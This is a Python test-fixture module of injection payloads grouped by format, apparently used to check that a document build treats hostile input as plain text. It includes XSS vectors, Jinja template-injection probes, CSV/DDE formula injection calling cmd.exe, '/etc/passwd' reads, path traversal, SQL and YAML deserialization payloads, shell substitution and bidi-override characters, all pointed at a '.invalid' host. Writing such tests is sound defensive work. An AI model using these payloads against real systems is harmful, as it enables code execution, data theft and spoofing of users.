"""Texts that try to be more than text, by kind: what a ledger or an editor might be handed.

Nothing here reaches any host (`.invalid` resolves nowhere); whatever would run sets `window.hit` or
asks for an address at `inject.invalid`, so that a test can see it.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping, Sequence

from analysis.fonts import SANS, SERIF, characters
from analysis.unseen import without_unseen

HOST = "inject.invalid"
RUNS = "window.hit=1"

HTML = (
    f"<script>{RUNS}</script>",
    f"<script src=//{HOST}/a.js></script>",
    f"<img src=x onerror={RUNS}>",
    f'"><img src="http://{HOST}/a.png" onload="{RUNS}">',
    f"' autofocus onfocus='{RUNS}' x='",
    f'" onmouseover="{RUNS}" style="position:fixed;inset:0',
    f"</td></table></main><h1>假</h1><iframe src=http://{HOST}/>",
    f"</style><style>@import url(http://{HOST}/a.css);</style>",
    f"</title></head><body onload={RUNS}>",
    f'<base href="http://{HOST}/">',
    f'<meta http-equiv="refresh" content="0;url=http://{HOST}/">',
    f'<link rel=prefetch href="http://{HOST}/p">',
    f'<a href="javascript:{RUNS}">看</a>',
    f"<form action=http://{HOST}><button autofocus>交</button></form>",
    f"<!-- --!><script>{RUNS}</script> -->",
    f"<![CDATA[<script>{RUNS}</script>]]>",
    f"&lt;script&gt;{RUNS}&lt;/script&gt;",
    "&#60;b&#62;粗&#60;/b&#62;",
    "&nbsp;&copy;&#x202e;",
    "<b><i><table><tr><td>",
    "</p></p></div></body></html>",
    "<plaintext>",
    '<style id="fonts"></style>',
    f"<details open ontoggle={RUNS}>",
    f"<object data=http://{HOST}></object>",
    "<?php echo 1 ?>",
    "<% out %>",
)
SVG = (
    f"<svg onload={RUNS}>",
    f"<svg><script>{RUNS}</script></svg>",
    f"<svg><foreignObject><iframe src=http://{HOST}></iframe></foreignObject></svg>",
    f'<svg><image href="http://{HOST}/a.png"/></svg>',
    f'<svg><use href="http://{HOST}/a.svg#x"/></svg>',
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={RUNS}></style></mglyph></math>",
)
CSS = (
    f"}}body{{background:url(http://{HOST}/b)}}",
    f"@import 'http://{HOST}/c.css';",
    "*{display:none!important}",
    "expression(1)",
)
MARKDOWN = (
    f"[看](http://{HOST}/link)",
    f"[跑](javascript:{RUNS})",
    f"![图](http://{HOST}/m.png)",
    "![图](data:text/html,<b>x)",
    f"<http://{HOST}/auto>",
    f"[甲]: http://{HOST}/def",
    "[甲][甲]",
    "[^1]",
    "[^1]: 假注",
    "**粗** *斜* `码`",
    "# 假标题",
    "| 甲 | 乙 |",
    "- 假项",
    "> 假引",
    "\\*\\_\\[",
)
TYPST = (
    '#import "@preview/a:1.0.0": *',
    '#eval("1+1")',
    '#read("/etc/passwd")',
    '#include "/etc/passwd"',
    "#sys.inputs.bulletin",
    "#panic()",
    "$ sum_(i=0)^n $",
    "@ref",
    "<label>",
    "#set page(width: 1cm)",
    "\\u{202e}",
    "= 假标题",
    "/* 注",
)
JINJA = (
    "{{ 7*7*191 }}",
    "{% for i in range(9) %}循{% endfor %}",
    "{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__ }}",
    "{# 注 #}",
    "{% include 'index.html.j2' %}",
    "{{ total | number }}",
    "{% raw %}",
)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    f'=HYPERLINK("http://{HOST}","看")',
    "=cmd|'/c calc'!A1",
    f'=WEBSERVICE("http://{HOST}")',
    " =1+1",
    "'=1+1",
    '"=1+1',
    "=IMPORTXML(A1)",
)
# Full-width forms: folded to ASCII by some programs.
WIDE_FORMULAS = ("＝1+1", "＋1+1", "－1+1", "＠SUM(1)")
WORD = (
    '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }',
    f"{{ INCLUDEPICTURE http://{HOST}/w.png }}",
    "</w:t></w:r><w:r><w:t>假",
    "_x000D_x001B_",
)
PATHS_AND_DATA = (
    "../../../x",
    "..\\..\\x",
    "C:\\x",
    "/etc/passwd",
    "a\\",
    '"}],"facts":[{"key":"假',
    "'; DROP TABLE cube; --",
    "key: [a, *b]",
    "!!python/object:os.system",
    "%s%n%d",
    "${HOME} $(id) `id`",
    "application/vnd.bulletin.facts+json",
    "null",
    "nan",
)
LONG = ("W" * 300, "长" * 200, "a/" * 150, "1-" * 80)
# More marks than any letter carries.
PILE = "e\u0301\u0300\u0304\u0307\u030c\u0301\u0300\u0304\u0307\u030c\u0301\u0300堆"
# What is not seen, beside words to be seen: without it, the words stay.
UNSEEN = (
    "甲\u202e乙\u202d丙",
    "丁\u202a戊\u202b己\u202c庚",
    "\u2066辛\u2067壬\u2068癸\u2069",
    "子\u200b丑\u200c寅\u200d卯",
    "辰\u200e巳\u200f午\u061c未",
    "\ufeff申\u2060酉\u00ad戌",
    "标\U000e0001\U000e0041\U000e0042\U000e007f签",
    PILE,
)
# Controls that no YAML or workbook holds unescaped, and CSV does.
CONTROLS = (
    "\x1b[2J\x1b[31m红",
    "\x1b]0;题\x07名",
    "\x08\x08\x08退",
    "\x9b31m黄",
    "垂\x0b直",
    "换\x0c页",
)
# What no font has: named in a message, never left out in silence.
UNPRINTABLE = (
    "私\ue000用",
    "阿\u0627\u0644拉",
    "\ufdd09999\ufdd1伪\ufdd2",
    "表\U0001f600情",
    "\U000e0100",
)

KINDS: Mapping[str, Sequence[str]] = {
    "HTML": HTML,
    "SVG": SVG,
    "CSS": CSS,
    "Markdown": MARKDOWN,
    "Typst": TYPST,
    "Jinja": JINJA,
    "formulas": FORMULAS,
    "wide formulas": WIDE_FORMULAS,
    "Word": WORD,
    "paths and data": PATHS_AND_DATA,
    "long words": LONG,
    "unseen": UNSEEN,
    "controls": CONTROLS,
}


def injections() -> Iterator[str]:
    """Yield every text that can be printed once what is not seen is gone."""
    for texts in KINDS.values():
        yield from texts


def printable(text: str) -> bool:
    """Tell whether the fonts have every character that is left of a text."""
    drawn = characters(SERIF) & characters(SANS)
    return all(c.isspace() or ord(c) in drawn for c in without_unseen(text))


def words(text: str) -> str:
    """Return what a reader finds of a text: without white space and what is not seen."""
    return "".join(without_unseen(text).split())


def innocent(number: int) -> str:
    """Return what stands in the same place in a build that nobody attacks."""
    return f"无害{number}"
